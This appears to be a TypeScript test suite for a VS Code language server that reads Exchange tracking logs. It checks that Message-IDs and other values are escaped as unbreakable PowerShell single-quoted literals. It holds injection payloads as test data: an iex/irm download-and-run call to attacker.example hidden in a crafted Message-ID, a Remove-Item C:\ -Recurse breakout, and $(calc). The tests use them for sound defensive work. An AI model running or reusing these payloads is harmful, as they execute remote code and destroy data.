// Every value the product puts into PowerShell is one single-quoted literal that cannot be broken
// out of (issue #10). The oracle is a reader of single-quoted strings written here from the
// PowerShell language specification, not the product's code:
//   verbatim-string-literal: single-quote-character verbatim-string-part* single-quote-character
//   verbatim-string-part:    any character except single-quote-character
//                            | single-quote-character single-quote-character
//   single-quote-character:  U+0027 | U+2018 | U+2019 | U+201A | U+201B
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { getLanguageService } from '../../server/src/languageService';
import { INVESTIGATION_RULES, TRACE_MESSAGE_STEPS } from '../../server/src/knowledge/data/investigations';
import { trackingFieldsByVersion } from '../../server/src/knowledge/data/exchangeLogFormats';
import { cleanDocumentValue, investigationSnippet, investigationText, snippetByPrefix, traceMessageInvestigations } from '../../server/src/knowledge/investigations';
import { powerShellValueFills, renderSnippetBody, snippetWithFills } from '../../server/src/knowledge/snippetText';
import { messageTraceScript, TRACE_SNIPPET_PREFIX } from '../../server/src/modes/shared/traceMessageScript';
import { TRACE_ACTION_TITLE } from '../../server/src/modes/exchangeLog/exchangeLogActions';
import { powerShellLiteral, powerShellLiteralContent } from '../../server/src/text/powerShell';
import { OPEN_POWERSHELL_COMMAND } from '../../server/src/common/protocol';
import { powershellParser } from '../support/powershellGrammar';
import { expandSnippet } from '../support/vscodeSnippet';
import '../support/fuzzSeed';

// ---------------------------------------------------------------------------------------------
// The oracle.

const SINGLE_QUOTE_CHARACTERS: ReadonlySet<string> = new Set(['\u0027', '\u2018', '\u2019', '\u201A', '\u201B']);
const isSingleQuote = (c: string | undefined): boolean => c !== undefined && SINGLE_QUOTE_CHARACTERS.has(c);

interface Literal {
  readonly start: number;
  /** Offset just after the closing quote. */
  readonly end: number;
  readonly value: string;
}

/**
 * The verbatim string literal that opens at `start`, or undefined when none opens there or it never
 * closes. Two quote characters in a row are one character of the value; the tokenizer takes the
 * pair rather than ending the string (longest match). A pair of two different quote characters is
 * refused: which one the value holds would then be a guess, and the product must never write one.
 */
function readVerbatimString(text: string, start: number): Literal | undefined {
  if (!isSingleQuote(text[start])) return undefined;
  let value = '';
  let at = start + 1;
  while (at < text.length) {
    const c = text[at]!;
    if (isSingleQuote(c)) {
      const next = text[at + 1];
      if (!isSingleQuote(next)) return { start, end: at + 1, value };
      if (next !== c) throw new Error(`mixed quote pair ${JSON.stringify(c + next)} at ${at}`);
      value += c;
      at += 2;
      continue;
    }
    value += c;
    at++;
  }
  return undefined;
}

/** The value when `text` is exactly one verbatim string literal, else undefined. */
function soleLiteralValue(text: string): string | undefined {
  const literal = readVerbatimString(text, 0);
  return literal && literal.end === text.length ? literal.value : undefined;
}

/**
 * A script split into its single-quoted literals and the code around them. Only valid for scripts
 * without double-quoted strings or comments (asserted), where every quote character outside a
 * literal opens one.
 */
function splitScript(script: string): { literals: Literal[]; code: string } {
  const literals: Literal[] = [];
  let code = '';
  let at = 0;
  while (at < script.length) {
    if (isSingleQuote(script[at])) {
      const literal = readVerbatimString(script, at);
      assert.ok(literal, `unterminated string at ${at} in:\n${script}`);
      literals.push(literal);
      code += ' ';
      at = literal.end;
      continue;
    }
    code += script[at];
    at++;
  }
  assert.doesNotMatch(code, /["#\u201C\u201D\u201E]/, 'the splitter does not read double-quoted strings or comments');
  return { literals, code };
}

/** The literal that is the argument of `-parameter` in `script`. */
function argumentLiteral(script: string, parameter: string): Literal {
  const { literals } = splitScript(script);
  const marker = `-${parameter} `;
  const at = script.indexOf(marker);
  assert.ok(at >= 0, `no ${marker} in:\n${script}`);
  const literal = literals.find((l) => l.start === at + marker.length);
  assert.ok(literal, `the argument of ${marker} is not a single-quoted literal in:\n${script}`);
  return literal;
}

// ---------------------------------------------------------------------------------------------
// Generators, weighted towards what PowerShell gives a meaning to.

const QUOTES = ['\u0027', '\u2018', '\u2019', '\u201A', '\u201B'];
const SPECIAL = ['$', '`', ';', '|', '&', '$(', ')', '(', '{', '}', '\\', '"', '\u201C', '\u201D', '\u201E', '@', '#', '<#', ' '];
const BREAKING = ['\n', '\r', '\r\n', '\0', '\t', '\x1b', '\x7f', '\x85', '\u2028', '\u2029', '\u202e', '\u200b', '\u2066'];
const PAYLOADS = ['iex(irm(\u2019http://attacker.example/x\u2019))', "'; Remove-Item C:\\ -Recurse; '", '$(calc)', '${env:PATH}'];

const piece = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...QUOTES) },
  { weight: 3, arbitrary: fc.constantFrom(...SPECIAL) },
  { weight: 1, arbitrary: fc.constantFrom(...BREAKING) },
  { weight: 1, arbitrary: fc.constantFrom(...PAYLOADS) },
  { weight: 3, arbitrary: fc.string({ maxLength: 6 }) },
  // Any UTF-16 code unit, lone surrogates included.
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)) },
);
const hostileString = fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(''));
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const hostileLine = hostileString.map((s) => s.replace(/[\u0000-\u001F\u007F-\u009F\u2028\u2029\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]/g, ''));

// A C0 or C1 control, DEL, a line or paragraph separator, or an invisible or bidirectional format
// character (Unicode's Cf characters that hide or reorder text): written out here, not taken from the product.
const hasBreakingCharacter = (s: string): boolean => [...s].some((c) => {
  const code = c.codePointAt(0)!;
  return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || code === 0x2028 || code === 0x2029
    || (code >= 0x200b && code <= 0x200f) || (code >= 0x202a && code <= 0x202e) || (code >= 0x2060 && code <= 0x2064)
    || (code >= 0x2066 && code <= 0x2069) || code === 0xfeff;
});

// ---------------------------------------------------------------------------------------------

describe('powerShellLiteral: one literal, the value unchanged', () => {
  it('any string without control characters reads back as exactly one literal holding it', () => {
    fc.assert(fc.property(hostileString, (value) => {
      const literal = powerShellLiteral(value);
      if (hasBreakingCharacter(value)) {
        assert.equal(literal, undefined, JSON.stringify(value));
        return;
      }
      assert.ok(literal !== undefined, JSON.stringify(value));
      assert.equal(soleLiteralValue(literal), value, literal);
    }), { numRuns: 2000 });
  });

  it('doubles each of the five quote characters as itself, and changes nothing else', () => {
    assert.equal(powerShellLiteral("o'brien"), "'o''brien'");
    assert.equal(powerShellLiteral('a\u2018b\u2019c\u201Ad\u201Be'), "'a\u2018\u2018b\u2019\u2019c\u201A\u201Ad\u201B\u201Be'");
    assert.equal(powerShellLiteral('$(calc) `; | "x" \u201Cy\u201D'), "'$(calc) `; | \"x\" \u201Cy\u201D'");
    assert.equal(powerShellLiteral(''), "''");
    assert.equal(powerShellLiteralContent("a'b"), "a''b");
  });

  it('the crafted Message-ID of the issue stays inside its literal', () => {
    const messageId = '<a\u2019;iex(irm(\u2019http://attacker.example/x\u2019));\u2019@b.example>';
    const literal = powerShellLiteral(messageId)!;
    assert.equal(literal, "'<a\u2019\u2019;iex(irm(\u2019\u2019http://attacker.example/x\u2019\u2019));\u2019\u2019@b.example>'");
    assert.equal(soleLiteralValue(literal), messageId);
    // What the product wrote before: PowerShell ends the string at the first U+2019 and runs the rest.
    assert.notEqual(soleLiteralValue(`'${messageId}'`), messageId);
  });

  it('refuses CR, LF, NUL, every other C0 control, DEL, C1 controls, the Unicode line separators and invisible or bidi format characters', () => {
    const refused = [...Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(i)), '\x7f',
      ...Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(0x80 + i)), '\u2028', '\u2029',
      '\u200b', '\u200d', '\u200e', '\u200f', '\u202a', '\u202e', '\u2060', '\u2066', '\u2069', '\ufeff'];
    for (const c of refused) {
      assert.equal(powerShellLiteral(`a${c}b`), undefined, `U+${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
      assert.equal(powerShellLiteralContent(`<x${c}@y>`), undefined);
    }
    for (const c of [' ', '~', '\u00a0', '\u00e9', '\u2027', '\u202f', '\ud83d\udce7']) assert.ok(powerShellLiteral(`a${c}b`), c);
  });
});

describe('snippet placeholders take values only between single quotes', () => {
  const body = "Get-X -Id '${1:example}' -Name ${2:contoso.com} -Mode '${3|A,B|}' -Pair '${4:a${5:b}}' -Mirror '${6:m}' $6 -Ok '${7:x}' '${7:y}'";
  const all = new Map([1, 2, 3, 4, 5, 6, 7].map((i) => [i, 'v'] as const));

  it('fills a quoted placeholder, and leaves unquoted, choice, nested and unquoted-mirror ones alone', () => {
    assert.deepEqual([...powerShellValueFills(body, all).keys()], [1, 7]);
  });

  it('a value PowerShell cannot take is not filled, and the example stays', () => {
    const body1 = "Get-X -Id '${1:example}'";
    assert.deepEqual(powerShellValueFills(body1, new Map([[1, 'a\nb']])), new Map());
    assert.equal(renderSnippetBody(body1, powerShellValueFills(body1, new Map([[1, 'a\u2028b']]))), "Get-X -Id 'example'");
  });

  it('the text and the snippet VS Code inserts both hold exactly one literal with the value, whatever it is', () => {
    const trace = snippetByPrefix('mf-track-msgid')!.body;
    fc.assert(fc.property(hostileLine, (value) => {
      const fills = powerShellValueFills(trace, new Map([[1, value]]));
      const text = renderSnippetBody(trace, fills);
      const inserted = expandSnippet(snippetWithFills(trace, fills));
      assert.equal(inserted, text);
      assert.equal(argumentLiteral(inserted, 'MessageId').value, value, inserted);
    }), { numRuns: 1000 });
  });
});

describe('every placeholder the product fills is inside a single-quoted literal', () => {
  const marker = 'mfFillMarker';

  /** The texts of the verbatim string literals tree-sitter finds in `text`. */
  async function verbatimStrings(text: string): Promise<string[]> {
    const tree = (await powershellParser()).parse(text)!;
    const found: string[] = [];
    const visit = (node: NonNullable<ReturnType<typeof tree.rootNode.child>>): void => {
      if (node.type === 'verbatim_string_characters') found.push(node.text);
      for (const child of node.children) if (child) visit(child);
    };
    visit(tree.rootNode);
    tree.delete();
    return found;
  }

  const steps = [...INVESTIGATION_RULES.flatMap((rule) => rule.steps), ...TRACE_MESSAGE_STEPS];
  const filled = new Map<string, Set<number>>();
  for (const step of steps) {
    for (const index of Object.keys(step.fills ?? {})) filled.set(step.prefix, (filled.get(step.prefix) ?? new Set()).add(Number(index)));
  }
  // The quick fix puts the Message-ID in placeholder 2 of its snippet.
  filled.set(TRACE_SNIPPET_PREFIX, new Set([2]));

  it('the catalogue: each filled placeholder becomes a whole literal (parsed by the PowerShell grammar)', async () => {
    assert.ok(filled.size >= 10);
    for (const [prefix, indexes] of filled) {
      const body = snippetByPrefix(prefix)!.body;
      for (const index of indexes) {
        const fills = powerShellValueFills(body, new Map([[index, marker]]));
        assert.ok(fills.has(index), `${prefix}: placeholder ${index} is not written between single quotes`);
        const text = renderSnippetBody(body, fills);
        const occurrences = text.split(marker).length - 1;
        assert.ok(occurrences >= 1, prefix);
        const literals = (await verbatimStrings(text)).filter((s) => s.includes(marker));
        assert.deepEqual(literals, Array(occurrences).fill(`'${marker}'`), `${prefix} placeholder ${index}`);
      }
    }
  });

  it('a value that passes the shape check but holds U+2019 is filled with the quote doubled', () => {
    const messageId = '<o\u2019brien.7@contoso.example>';
    assert.equal(cleanDocumentValue('messageId', messageId), messageId);
    for (const item of traceMessageInvestigations()) {
      const text = investigationText(item, { messageId });
      assert.ok(text.includes("'<o\u2019\u2019brien.7@contoso.example>'"), text);
      assert.equal(argumentLiteral(text, 'MessageId').value, messageId);
      assert.equal(argumentLiteral(expandSnippet(investigationSnippet(item, { messageId })), 'MessageId').value, messageId);
    }
  });

  it('the address reaches the Get-Recipient filter (a second, OPATH, string) only when its shape holds no quote at all', () => {
    const holder = snippetByPrefix('mf-diag-address-holder')!.body;
    assert.match(holder, /^\\\$address = '\$\{1:[^}]+\}'\n.*-Filter "EmailAddresses -eq 'smtp:\\\$address'"/);
    for (const quote of [...SINGLE_QUOTE_CHARACTERS, '"', '\u201C', '\u201D', '`']) {
      assert.equal(cleanDocumentValue('recipient', `o${quote}brien@contoso.example`), undefined, quote);
    }
  });

  it('the quick fix script: server, Message-ID and times are each one literal', () => {
    const messageId = '<x\u201B;calc()\u2018@b.example>';
    const script = messageTraceScript({ messageId, server: 'EX02', start: '2026-11-23T08:44:02Z', end: '2026-11-23T09:44:04Z' })!;
    assert.equal(argumentLiteral(script, 'Server').value, 'EX02');
    assert.equal(argumentLiteral(script, 'MessageId').value, messageId);
    assert.equal(argumentLiteral(script, 'Start').value, '2026-11-23T08:44:02Z');
    assert.equal(argumentLiteral(script, 'End').value, '2026-11-23T09:44:04Z');
    assert.doesNotMatch(splitScript(script).code, /calc/);
  });
});

// ---------------------------------------------------------------------------------------------
// The crafted tracking log of the issue, end to end through the language service.

describe('a hostile tracking log (synthetic fixture)', () => {
  const craftedId = '<a\u2019;iex(irm(\u2019http://attacker.example/x\u2019));\u2019@b.example>';
  const quoteId = '<o\u2019brien.7@contoso.example>';
  const fields = trackingFieldsByVersion['2016'];
  const row = (values: Record<string, string>): string => fields.map((name) => values[name] ?? '').join(',');
  // Synthetic: written for this test. The crafted message is received by EX02, then deferred with
  // 4.4.7; a second message with a typographic apostrophe in an otherwise ordinary Message-ID fails with 5.4.6.
  const trackingLog = [
    '#Software: Microsoft Exchange Server',
    '#Version: 15.02.1544.004',
    '#Log-type: Message Tracking Log',
    '#Date: 2026-11-23T09:00:01.112Z',
    `#Fields: ${fields.join(',')}`,
    row({ 'date-time': '2026-11-23T09:14:02.120Z', 'server-hostname': 'EX02', source: 'SMTP', 'event-id': 'RECEIVE', 'internal-message-id': '86157228441601',
      'message-id': craftedId, 'recipient-address': 'bob@fabrikam.example', 'sender-address': 'mallory@attacker.example' }),
    row({ 'date-time': '2026-11-23T09:30:11.050Z', 'server-hostname': 'mx.fabrikam.example', source: 'SMTP', 'event-id': 'DEFER', 'internal-message-id': '86157228441601',
      'message-id': craftedId, 'recipient-address': 'bob@fabrikam.example', 'recipient-status': '"451 4.4.7 Message delayed"', 'sender-address': 'mallory@attacker.example' }),
    row({ 'date-time': '2026-11-23T09:40:00.000Z', 'server-hostname': 'EX02', source: 'ROUTING', 'event-id': 'FAIL', 'internal-message-id': '86157228441605',
      'message-id': quoteId, 'recipient-address': 'carol@contoso.example', 'recipient-status': '"550 5.4.6 Routing loop detected"', 'sender-address': 'dave@contoso.example' }),
  ].join('\n');
  const service = getLanguageService();
  const document = TextDocument.create('file:///MSGTRK20261123-9.LOG', 'exchange-tracking-log', 1, trackingLog);

  /** The arguments of every open-PowerShell command: URI in a hover, read without relying on how links are written. */
  function commandArguments(markdown: string): { snippet?: string; text?: string }[] {
    const head = `command:${OPEN_POWERSHELL_COMMAND}?`;
    const found: { snippet?: string; text?: string }[] = [];
    for (let at = markdown.indexOf(head); at >= 0; at = markdown.indexOf(head, at + 1)) {
      const rest = markdown.slice(at + head.length);
      // The link ends at one of the `)` after it: the first cut that decodes to JSON is the argument.
      for (let close = rest.indexOf(')'); close >= 0; close = rest.indexOf(')', close + 1)) {
        try {
          found.push(...(JSON.parse(decodeURIComponent(rest.slice(0, close))) as { snippet?: string; text?: string }[]));
          break;
        } catch { /* not the end of the link yet */ }
      }
    }
    return found;
  }

  function assertSafe(script: string, messageId: string): void {
    assert.equal(argumentLiteral(script, 'MessageId').value, messageId, script);
    assert.doesNotMatch(splitScript(script).code, /iex|irm|Invoke-Expression|Invoke-RestMethod|attacker/i, script);
  }

  it('the quick fix offers one trace per message, the Message-ID one literal, no iex or irm outside it', async () => {
    const diagnostics = await service.doValidation(document);
    assert.deepEqual(diagnostics.map((d) => d.code), ['DEFER', 'FAIL']);
    const actions = service.getCodeActions(document, diagnostics);
    assert.deepEqual(actions.map((a) => a.title), [TRACE_ACTION_TITLE, TRACE_ACTION_TITLE]);
    const [crafted, quoted] = actions.map((a) => (a.command!.arguments![0] as { text: string }).text);
    assertSafe(crafted!, craftedId);
    assert.equal(argumentLiteral(crafted!, 'Server').value, 'EX02');
    assertSafe(quoted!, quoteId);
  });

  it('the hover on the deferral code: both "Trace this message" links hold the Message-ID as one literal', () => {
    const line = trackingLog.split('\n').findIndex((l) => l.includes(',DEFER,'));
    const hover = service.doHover(document, { line, character: trackingLog.split('\n')[line]!.indexOf('4.4.7') + 1 });
    assert.ok(hover);
    const markdown = (hover.contents as { value: string }).value;
    assert.match(markdown, /Trace this message\b/);
    const scripts = commandArguments(markdown).map((a) => expandSnippet(a.snippet ?? ''));
    const tracing = scripts.filter((s) => s.includes('-MessageId'));
    assert.equal(tracing.length, 2, markdown);
    for (const script of tracing) assertSafe(script, craftedId);
    for (const script of scripts.filter((s) => !tracing.includes(s))) assert.doesNotMatch(script, /attacker/);
  });

  it('the hover on the failure code: the typographic apostrophe is doubled in the links', () => {
    const line = trackingLog.split('\n').findIndex((l) => l.includes(',FAIL,'));
    const hover = service.doHover(document, { line, character: trackingLog.split('\n')[line]!.indexOf('5.4.6') + 1 });
    assert.ok(hover);
    const tracing = commandArguments((hover.contents as { value: string }).value)
      .map((a) => a.snippet ?? '').filter((s) => s.includes('-MessageId'));
    assert.equal(tracing.length, 2);
    for (const snippet of tracing) {
      assert.ok(snippet.includes("'${1:<o\u2019\u2019brien.7@contoso.example>}'"), snippet);
      assertSafe(expandSnippet(snippet), quoteId);
    }
  });
});
